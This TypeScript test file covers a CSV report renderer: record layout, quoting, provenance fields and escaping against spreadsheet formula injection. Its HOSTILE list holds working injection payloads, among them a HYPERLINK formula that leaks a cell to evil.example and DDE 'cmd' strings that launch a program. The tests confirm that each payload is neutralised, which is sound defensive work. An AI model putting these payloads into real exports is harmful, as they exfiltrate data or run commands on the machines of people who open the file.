import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import type { ChartBlock, Report } from "../report-model.js";
import {
  checkShowsReport,
  type ParsedBlock,
  type ParsedFigure,
  type ParsedFinding,
  type ParsedReportText,
  type ParsedSection,
  renderBytes,
  reportRendererContract,
} from "../report-renderer.case.js";
import type { ReportRenderer } from "../report-renderer.js";
import { sampleReport } from "../sample-report.js";
import {
  CSV_FORMULA_ESCAPING,
  csvCellText,
  csvRenderer,
  REPORT_CSV_COLUMNS,
  type ReportCsvRecord,
  renderCsv,
  reportCsvRecords,
} from "./csv-renderer.js";

/** Reads the CSV with csv-parse (RFC 4180, strict: every record must have the header's columns). */
function readRecords(bytes: Buffer): ReportCsvRecord[] {
  return parse(bytes, {
    columns: (header: string[]) => {
      assert.deepStrictEqual(header, [...REPORT_CSV_COLUMNS], "header");
      return header;
    },
    // Any line break that is not quoted ends a record, as in most readers (RFC 4180 asks for quotes).
    record_delimiter: ["\r\n", "\n", "\r"],
  }) as ReportCsvRecord[];
}

/** `row` as an index: a non-negative integer in decimal. */
function index(record: ReportCsvRecord): number {
  assert.match(record.row, /^(0|[1-9]\d*)$/, `row of ${JSON.stringify(record)}`);
  return Number(record.row);
}

/** Puts `value` at `at` of `list`, which must be free. */
function place<T>(list: (T | undefined)[], at: number, value: T, what: string): void {
  assert.equal(list[at], undefined, `${what} ${at} given twice`);
  list[at] = value;
}

/** Every index of `list` filled: no gaps. */
function dense<T>(list: (T | undefined)[], what: string): T[] {
  return Array.from(list, (item, i) => {
    assert.ok(item !== undefined, `${what} ${i} missing`);
    return item;
  });
}

/** The map at `at` of `list`, created when missing. */
function entry(list: Map<string, string>[], at: number): Map<string, string> {
  const map = list[at] ?? new Map<string, string>();
  list[at] = map;
  return map;
}

/** A block's records: `row` empty (facts), `header` (column labels), `unit` (figure units), or an index (items). */
interface BlockDraft {
  kind: string;
  facts: Map<string, string>;
  header: { key: string; label: string }[];
  units: Map<string, string>;
  items: ReportCsvRecord[];
}

function parseBlock(draft: BlockDraft): ParsedBlock {
  const title = draft.facts.get("title") ?? assert.fail("a block without a title");
  const { items } = draft;
  if (draft.kind !== "table") assert.equal(draft.header.length, 0, "a header row outside a table");
  if (draft.kind !== "figures") assert.equal(draft.units.size, 0, "units outside figures");
  switch (draft.kind) {
    case "figures": {
      const figures: (ParsedFigure | undefined)[] = [];
      for (const r of items) {
        place(
          figures,
          index(r),
          { label: r.column, value: r.value, unit: draft.units.get(r.column) ?? "" },
          "figure",
        );
      }
      for (const label of draft.units.keys())
        assert.ok(
          items.some((r) => r.column === label),
          `unit of no figure`,
        );
      return { kind: "figures", title, figures: dense(figures, "figure") };
    }
    case "table": {
      const keys = draft.header;
      const cells: Map<string, string>[] = [];
      for (const r of items) {
        const row = entry(cells, index(r));
        assert.ok(
          keys.some((c) => c.key === r.column),
          `cell in an unknown column ${r.column}`,
        );
        assert.ok(!row.has(r.column), `cell ${r.row}/${r.column} given twice`);
        row.set(r.column, r.value);
      }
      const rows = dense(cells, "table row").map((row, i) =>
        keys.map((c) => row.get(c.key) ?? assert.fail(`row ${i} has no cell in column ${c.key}`)),
      );
      const truncated = Number(draft.facts.get("truncated") ?? "0");
      return { kind: "table", title, columns: keys.map((c) => c.label), rows, truncated };
    }
    case "chart": {
      const points: ({ label: string; value: string } | undefined)[] = [];
      for (const r of items) place(points, index(r), { label: r.column, value: r.value }, "point");
      const chart = draft.facts.get("chart") as ChartBlock["chart"];
      return {
        kind: "chart",
        title,
        chart,
        unit: draft.facts.get("unit") ?? "",
        points: dense(points, "point"),
      };
    }
    case "findings": {
      const parts: Map<string, string>[] = [];
      for (const r of items) entry(parts, index(r)).set(r.column, r.value);
      const findings = dense(parts, "finding").map(
        (f): ParsedFinding => ({
          severity: f.get("severity") ?? "",
          title: f.get("title") ?? "",
          detail: f.get("detail") ?? "",
          evidenceSeqs: (f.get("evidence_seqs") ?? "").split(" ").filter(Boolean).map(Number),
        }),
      );
      return { kind: "findings", title, findings };
    }
    default:
      return assert.fail(`unknown block kind ${draft.kind}`);
  }
}

/** Text a spreadsheet would run as a formula. */
const FORMULA = /^[=+\-@\t\r]/;
/** The text of a number as `String(n)` writes a negative one (the only number text FORMULA matches). */
const NEGATIVE_NUMBER = /^-(?:\d+(?:\.\d+)?(?:e[+-]\d+)?|Infinity)$/;

/**
 * Undoes the CSV's formula escaping, exactly as its `formula_escaping` record states it: one `'`
 * is removed from a text field that starts with `'`s followed by `=`, `+`, `-`, `@`, TAB or CR.
 * Fails on a field a spreadsheet would run (only a negative number's value may start with `-`),
 * so the contract fails a renderer that does not escape.
 */
function unescapeFormulas(record: ReportCsvRecord): ReportCsvRecord {
  const undo = (field: string, text: string): string => {
    assert.ok(
      !FORMULA.test(text) || (field === "value" && NEGATIVE_NUMBER.test(text)),
      `unescaped formula in ${field}: ${JSON.stringify(text)}`,
    );
    return /^'+[=+\-@\t\r]/.test(text) ? text.slice(1) : text;
  };
  if (record.kind === "provenance" && record.column === "formula_escaping") {
    assert.equal(record.value, CSV_FORMULA_ESCAPING, "formula escaping stated");
  }
  return {
    ...record,
    section: undo("section", record.section),
    column: undo("column", record.column),
    value: undo("value", record.value),
  };
}

/**
 * The parse adapter: csv-parse reads the records (formula escaping undone: {@link unescapeFormulas}); they are grouped by `section` and `block`, and
 * within a block by `row` (items by index, not by their order in the file); every record must
 * belong somewhere.
 */
function parseCsvReport(bytes: Buffer): ParsedReportText {
  const records = readRecords(bytes).map(unescapeFormulas);
  const facts = new Map<string, string>();
  const filter: string[] = [];
  const sections: { id: string; title: string; blocks: BlockDraft[] }[] = [];
  const blocks = new Map<string, BlockDraft>();
  for (const r of records) {
    if (r.kind === "provenance") {
      assert.equal(r.section, "provenance");
      if (r.column === "filter") place(filter, index(r), r.value, "filter");
      else facts.set(r.column, r.value);
    } else if (r.kind === "section") {
      assert.ok(!sections.some((s) => s.id === r.section), `section ${r.section} given twice`);
      sections.push({ id: r.section, title: r.value, blocks: [] });
    } else {
      assert.ok(["figures", "table", "chart", "findings"].includes(r.kind), `unknown kind ${r.kind}`);
      const section =
        sections.find((s) => s.id === r.section) ?? assert.fail(`block before its section: ${r.section}`);
      const key = `${r.section}\u0000${r.block}`;
      let draft = blocks.get(key);
      if (!draft) {
        draft = { kind: r.kind, facts: new Map(), header: [], units: new Map(), items: [] };
        blocks.set(key, draft);
        place(section.blocks, Number(r.block), draft, `block of ${r.section}`);
      }
      assert.equal(draft.kind, r.kind, `block ${r.block} of ${r.section}: kind`);
      if (r.row === "") draft.facts.set(r.column, r.value);
      else if (r.row === "header") draft.header.push({ key: r.column, label: r.value });
      else if (r.row === "unit") draft.units.set(r.column, r.value);
      else draft.items.push(r);
    }
  }
  const fact = (name: string) => facts.get(name) ?? assert.fail(`provenance ${name} missing`);
  assert.equal(fact("formula_escaping"), CSV_FORMULA_ESCAPING, "formula escaping stated");
  const verified = (text: string) => (text === "not checked" ? undefined : text === "true");
  return {
    provenance: {
      type: fact("type"),
      title: fact("title"),
      generatedAt: fact("generated_at"),
      since: fact("period.since"),
      until: fact("period.until"),
      filter: dense(filter, "filter"),
      auditLevel: fact("audit_level"),
      origin: fact("checkpoint.origin"),
      treeSize: fact("checkpoint.tree_size"),
      rootHash: fact("checkpoint.root_hash"),
      signatureVerified: verified(fact("checkpoint.signature_verified")) === true,
      storeVerified: verified(fact("checkpoint.store_verified")),
      note: fact("checkpoint.note"),
    },
    branding: {
      organisation: facts.get("branding.organisation") ?? "",
      footer: facts.get("branding.footer") ?? "",
    },
    sections: sections.map(
      (s): ParsedSection => ({ title: s.title, blocks: dense(s.blocks, `block of ${s.id}`).map(parseBlock) }),
    ),
  };
}

reportRendererContract(() => csvRenderer, parseCsvReport, { audience: "programs" });

describe("csvRenderer", () => {
  test("writes the header, CRLF line ends and one record per fact, figure, cell, point and finding part", () => {
    const text = renderCsv(sampleReport());
    assert.ok(text.startsWith("section,block,kind,row,column,value\r\n"));
    assert.ok(text.endsWith("\r\n"));
    const records = readRecords(Buffer.from(text));
    const count = (kind: string, row: (row: string) => boolean = (r) => /^\d+$/.test(r)) =>
      records.filter((r) => r.kind === kind && row(r.row)).length;
    assert.equal(count("table"), 25 * 8 + 2 * 9 + 5 * 4);
    assert.equal(
      count("table", (row) => row === "header"),
      8 + 9 + 4,
    );
    assert.equal(count("figures"), 6);
    assert.equal(
      count("figures", (row) => row === "unit"),
      3,
    );
    assert.equal(count("chart"), 7 + 4 + 3);
    assert.equal(count("findings"), 5 * 4);
    assert.equal(
      count("section", (row) => row === ""),
      4,
    );
  });

  test("names provenance fields by their dotted snake_case path", () => {
    const records = readRecords(Buffer.from(renderCsv(sampleReport({ storeVerified: "not-run" }))));
    const provenance = records.filter((r) => r.section === "provenance");
    assert.deepStrictEqual(
      provenance.map((r) => [r.row, r.column]),
      [
        ["", "type"],
        ["", "title"],
        ["", "generated_at"],
        ["", "period.since"],
        ["", "period.until"],
        ["0", "filter"],
        ["1", "filter"],
        ["", "audit_level"],
        ["", "checkpoint.origin"],
        ["", "checkpoint.tree_size"],
        ["", "checkpoint.root_hash"],
        ["", "checkpoint.signature_verified"],
        ["", "checkpoint.store_verified"],
        ["", "checkpoint.note"],
        ["", "formula_escaping"],
      ],
    );
    const value = (column: string) => provenance.find((r) => r.column === column)?.value;
    assert.equal(value("checkpoint.root_hash"), "3q2+7wABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGho=");
    assert.equal(value("checkpoint.tree_size"), "48213");
    assert.equal(value("checkpoint.signature_verified"), "true");
    assert.equal(value("checkpoint.store_verified"), "not checked");
  });

  test("cells: row index, column key and the exact value; a line break alone is quoted", () => {
    const text = renderCsv(sampleReport());
    const records = readRecords(Buffer.from(text));
    const cell = (row: number, column: string) =>
      records.find(
        (r) => r.kind === "table" && r.section === "actors" && r.row === String(row) && r.column === column,
      );
    assert.deepStrictEqual(cell(0, "events"), {
      section: "actors",
      block: "0",
      kind: "table",
      row: "0",
      column: "events",
      value: "4000",
    });
    assert.equal(cell(0, "share")?.value, String((4_000 / 54_700) * 100));
    assert.equal(cell(0, "verified")?.value, "false");
    assert.equal(cell(7, "actor")?.value, "");
    assert.equal(cell(3, "note")?.value, "line one\nline two");
    assert.equal(cell(5, "note")?.value, "carriage\rreturn");
    assert.ok(text.includes('"line one\nline two"'));
    assert.ok(text.includes('"carriage\rreturn"'));
  });

  test("the contract fails a renderer that writes unquoted line breaks or loses a record", async () => {
    // A hand-made CSV writer that forgets to quote: commas and line breaks split the records.
    const naive: ReportRenderer = {
      ...csvRenderer,
      render: async (report, out) => {
        const lines = reportCsvRecords(report).map((r) => REPORT_CSV_COLUMNS.map((c) => r[c]).join(","));
        out.write(`${REPORT_CSV_COLUMNS.join(",")}\r\n${lines.join("\r\n")}\r\n`);
      },
    };
    await assert.rejects(checkShowsReport(naive, parseCsvReport, sampleReport()));
    // A renderer that loses the record of one cell.
    const lossy: ReportRenderer = {
      ...csvRenderer,
      render: async (report, out) => {
        const text = renderCsv(report);
        out.write(text.replace(/^actors,0,table,24,events,.*\r\n/m, ""));
      },
    };
    assert.notEqual(
      renderCsv(sampleReport()),
      renderCsv(sampleReport()).replace(/^actors,0,table,24,events,.*\r\n/m, ""),
    );
    await assert.rejects(
      checkShowsReport(lossy, parseCsvReport, sampleReport()),
      /row 24 has no cell in column events/,
    );
  });

  test("items named like block facts (title, unit, truncated, header) do not collide with them", async () => {
    const report: Report = {
      ...sampleReport(),
      sections: [
        {
          id: "names",
          title: "Names",
          blocks: [
            {
              kind: "figures",
              title: "F",
              figures: [
                { label: "title", value: 1, unit: "unit" },
                { label: "unit", value: 2 },
              ],
            },
            {
              kind: "table",
              title: "T",
              columns: [
                { key: "title", label: "truncated" },
                { key: "header", label: "title" },
              ],
              rows: [{ title: "x", header: "y" }],
              truncated: 1,
            },
            {
              kind: "chart",
              title: "C",
              chart: "bar",
              unit: "u",
              points: [
                { label: "unit", value: 3 },
                { label: "chart", value: 4 },
              ],
            },
          ],
        },
      ],
    };
    await checkShowsReport(csvRenderer, parseCsvReport, report);
  });

  describe("formula injection: text a spreadsheet would run is prefixed with '", () => {
    const HOSTILE = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3",
      "\t=1+1 after a tab",
      "\r=1+1 after a carriage return",
    ];
    /** A report whose event fields are hostile: table cells, a figure's label and a chart label. */
    const hostileReport = (): Report => ({
      ...sampleReport({ filter: ["=1+1"] }),
      sections: [
        {
          id: "hostile",
          title: "@Hostile",
          blocks: [
            {
              kind: "table",
              title: "Events",
              columns: [
                { key: "actor", label: "Actor" },
                { key: "events", label: "Events" },
              ],
              rows: [
                ...HOSTILE.map((actor, i) => ({ actor, events: i })),
                { actor: "-5", events: -5 },
                { actor: "plain text", events: 0 },
                { actor: "a=b, 1+1, user-01, x@y", events: 1.5 },
                { actor: "'quoted already", events: null },
                { actor: "'=quoted formula", events: true },
                { actor: "", events: -0.25 },
              ],
            },
            { kind: "figures", title: "F", figures: [{ label: "=2*3", value: -5, unit: "-" }] },
            { kind: "chart", title: "C", chart: "bar", unit: "events", points: [{ label: "+1", value: -1 }] },
          ],
        },
      ],
    });
    const records = () => readRecords(Buffer.from(renderCsv(hostileReport())));
    const cell = (row: number, column: string) =>
      records().find((r) => r.kind === "table" && r.row === String(row) && r.column === column)?.value;

    test("a hostile cell, read with csv-parse, starts with ' and then the text as written", () => {
      HOSTILE.forEach((text, i) => {
        assert.equal(cell(i, "actor"), `'${text}`, text);
      });
      const all = records();
      const value = (kind: string, column: string) => all.find((r) => r.kind === kind && r.column === column);
      assert.equal(all.find((r) => r.kind === "section")?.value, "'@Hostile");
      assert.equal(value("figures", "'=2*3")?.value, "-5", "a figure's label is text; its value a number");
      assert.equal(all.find((r) => r.kind === "figures" && r.row === "unit")?.value, "'-");
      assert.equal(value("chart", "'+1")?.value, "-1", "a chart label is text; its value a number");
      assert.equal(value("provenance", "filter")?.value, "'=1+1");
    });

    test('a number like -5 stays a number cell; the text "-5" is prefixed', () => {
      const at = HOSTILE.length;
      assert.equal(cell(at, "events"), "-5");
      assert.equal(cell(at, "actor"), "'-5");
      assert.equal(cell(at + 5, "events"), "-0.25");
      assert.equal(csvCellText(-5), "-5");
      assert.equal(csvCellText("-5"), "'-5");
      // In the rich sample: a negative figure, and text cells that look like formulas.
      const sample = readRecords(Buffer.from(renderCsv(sampleReport())));
      assert.equal(sample.find((r) => r.kind === "figures" && r.column === "Clock drift")?.value, "-3");
      const notes = sample.filter((r) => r.kind === "table" && r.column === "note").map((r) => r.value);
      assert.ok(notes.includes("'=SUM(A1:A9)"));
      assert.ok(notes.includes("'-5 looks negative"));
    });

    test("an ordinary value is untouched", () => {
      const at = HOSTILE.length;
      assert.equal(cell(at + 1, "actor"), "plain text");
      assert.equal(cell(at + 1, "events"), "0");
      assert.equal(cell(at + 2, "actor"), "a=b, 1+1, user-01, x@y");
      assert.equal(cell(at + 2, "events"), "1.5");
      assert.equal(cell(at + 3, "actor"), "'quoted already", "a ' before ordinary text is not doubled");
      assert.equal(cell(at + 3, "events"), "");
      assert.equal(cell(at + 4, "events"), "true");
      assert.equal(cell(at + 5, "actor"), "");
      assert.equal(csvCellText("tab\tinside"), "tab\tinside");
    });

    test("a ' before a formula gets one more, so that dropping one ' gives the text back", async () => {
      assert.equal(cell(HOSTILE.length + 4, "actor"), "''=quoted formula");
      assert.equal(csvCellText("''@x"), "'''@x");
      await checkShowsReport(csvRenderer, parseCsvReport, hostileReport());
    });

    test("the provenance states the escaping", () => {
      const stated = records().find((r) => r.kind === "provenance" && r.column === "formula_escaping");
      assert.equal(
        stated?.value,
        "text cells starting with = + - @ TAB CR (after any ') are prefixed with '",
      );
    });

    test("the contract fails a renderer that does not escape, or does not say so", async () => {
      const unescaped: ReportRenderer = {
        ...csvRenderer,
        render: async (report, out) => {
          const raw = reportCsvRecords(report).map((r) => ({ ...r, value: r.value.replace(/^'/, "") }));
          out.write(
            stringify(raw, { header: true, columns: [...REPORT_CSV_COLUMNS], quoted_match: /[\r\n]/ }),
          );
        },
      };
      await assert.rejects(checkShowsReport(unescaped, parseCsvReport, sampleReport()), /unescaped formula/);
      const unstated: ReportRenderer = {
        ...csvRenderer,
        render: async (report, out) => {
          out.write(renderCsv(report).replace(/^provenance,,provenance,,formula_escaping,.*\r\n/m, ""));
        },
      };
      await assert.rejects(
        checkShowsReport(unstated, parseCsvReport, sampleReport()),
        /provenance formula_escaping missing/,
      );
    });
  });

  test("renders the edge cases as block facts without data records", async () => {
    const records = readRecords(await renderBytes(csvRenderer, sampleReport({ variant: "edge-cases" })));
    const nothing = records.filter((r) => r.section === "nothing");
    assert.deepStrictEqual(
      nothing.map((r) => [r.block, r.kind, r.row, r.column, r.value]),
      [
        ["", "section", "", "title", "Nothing to show"],
        ["0", "figures", "", "title", "No figures"],
        ["1", "table", "", "title", "No rows"],
        ["1", "table", "header", "a", "A"],
        ["1", "table", "header", "b", "B"],
        ["2", "table", "", "title", "Every row left out"],
        ["2", "table", "", "truncated", "12"],
        ["2", "table", "header", "a", "A"],
        ["3", "table", "", "title", ""],
        ["4", "chart", "", "title", "No points"],
        ["4", "chart", "", "chart", "timeseries"],
        ["4", "chart", "", "unit", "events"],
        ["5", "findings", "", "title", "No findings"],
      ],
    );
  });
});
